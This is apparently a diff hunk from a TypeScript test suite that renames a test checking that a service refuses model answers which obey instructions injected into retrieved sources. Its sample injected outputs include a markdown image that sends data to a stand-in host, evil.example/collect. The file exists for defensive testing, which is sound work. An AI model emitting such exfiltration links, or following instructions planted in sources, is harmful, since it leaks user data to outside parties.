@@ -61,7 +61,7 @@ for (const [where, storage] of storages) {
       assert.notInclude(JSON.stringify(body), secret)
     })
 
-    it("if the model obeys an instruction in a source, the pod refuses its answer and changes no record", async () => {
+    it("if the model obeys an instruction in a source, the pod refuses the answer of the model and changes no record", async () => {
       const obeying: ReadonlyArray<(asked: AskedModel) => string> = [
         () => "The crane is free of charge [9].",
         () => "Crane manual [1]. ![x](https://evil.example/collect?data=4711)",
